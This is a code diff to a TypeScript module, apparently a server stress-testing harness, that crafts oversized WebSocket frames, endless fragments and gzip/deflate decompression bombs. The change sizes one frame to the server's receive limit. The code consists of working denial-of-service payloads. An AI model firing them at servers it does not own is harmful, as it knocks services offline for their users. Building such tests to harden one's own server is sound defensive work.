@@ -1,5 +1,6 @@
 import { constants, deflateRawSync, gzipSync } from "node:zlib";
 import { type Attack, keepUp, openSocket, openWebSocket, pour } from "./attack.ts";
+import { MAX_RECEIVE_BYTES } from "./limit.ts";
 
 const AT_ONCE = 20;
 const MASK = [0, 0, 0, 0];
@@ -15,8 +16,8 @@ export const hugeMessages: Attack = {
     const kinds = [
       // 4 EB, announced at once.
       { open: openWebSocket, start: [0x82, 0xff, 0x40, 0, 0, 0, 0, 0, 0, 0, ...MASK], rest: ZEROS },
-      // 3 MiB, which is less than the limit of some servers.
-      { open: openWebSocket, start: [0x82, 0xff, 0, 0, 0, 0, 0, 0x30, 0, 0, ...MASK], rest: ZEROS },
+      // As much as the server takes.
+      { open: openWebSocket, start: longHeader(0x82, MAX_RECEIVE_BYTES), rest: ZEROS },
       { open: openWebSocket, start: [0x02, 0x80, ...MASK], rest: fragment() },
       {
         open: openSocket,
@@ -50,7 +51,7 @@ export const deflateBombs: Attack = {
   async run(target) {
     const post = `${POST}Content-Encoding: gzip\r\nContent-Length: ${zipped.length}\r\n\r\n`;
     const bombs = [
-      { open: openWebSocket, bytes: Buffer.concat([compressedHeader(deflated.length), deflated]) },
+      { open: openWebSocket, bytes: Buffer.concat([longHeader(0xc2, deflated.length), deflated]) },
       { open: openSocket, bytes: Buffer.concat([Buffer.from(post), zipped]) },
     ];
     await Promise.all(
@@ -77,8 +78,8 @@ function chunk(): Buffer {
   return Buffer.concat([Buffer.from("10000\r\n"), ZEROS, Buffer.from("\r\n")]);
 }
 
-function compressedHeader(length: number): Buffer {
-  const header = Buffer.from([0xc2, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, ...MASK]);
+function longHeader(first: number, length: number): Buffer {
+  const header = Buffer.from([first, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, ...MASK]);
   header.writeBigUInt64BE(BigInt(length), 2);
   return header;
 }
